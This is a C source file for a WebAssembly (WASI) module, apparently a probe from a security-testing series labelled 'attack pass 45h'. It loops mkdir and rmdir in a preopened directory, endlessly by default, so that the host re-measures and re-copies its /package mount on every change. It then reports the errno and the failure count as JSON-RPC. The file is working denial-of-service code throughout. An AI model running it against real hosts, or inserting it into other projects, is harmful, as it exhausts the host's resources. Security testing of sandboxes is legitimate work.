// clang --target=wasm32-wasi -O2 -Wl,--strip-debug -o pkgloop.wasm pkgloop.c
// (attack pass 45h) Reads one request line, then makes a directory in the
// first preopen (fd 3; /package when only it is mounted) LOOPS times (0:
// for ever), and answers with the first errno and how many of the calls
// failed. Each mkdir is a change: while the host's copy of /package fails
// (a file of the package it cannot read), every one makes the host measure
// and copy the package again.
#include <wasi/api.h>
#include <string.h>
#include <stdio.h>

#ifndef LOOPS
#define LOOPS 0
#endif

static char buf[4096];
static char out[256];

int main(void) {
	size_t have = 0;
	for (;;) {
		__wasi_iovec_t v = {(uint8_t *)buf + have, sizeof buf - have};
		__wasi_size_t n = 0;
		if (__wasi_fd_read(0, &v, 1, &n) != 0 || n == 0) return 1;
		have += n;
		if (memchr(buf, '\n', have)) break;
	}
	int first = -1, failed = 0;
	for (long i = 0; LOOPS == 0 || i < LOOPS; i++) {
		int e = __wasi_path_create_directory(3, "d");
		if (first < 0) first = e;
		if (e != 0) failed++;
		else (void)__wasi_path_remove_directory(3, "d");
	}
	int len = snprintf(out, sizeof out, "{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{\"e\":\"%d,%d\"}}\n", first, failed);
	__wasi_ciovec_t o = {(const uint8_t *)out, (size_t)len};
	__wasi_size_t n = 0;
	(void)__wasi_fd_write(1, &o, 1, &n);
	return 0;
}
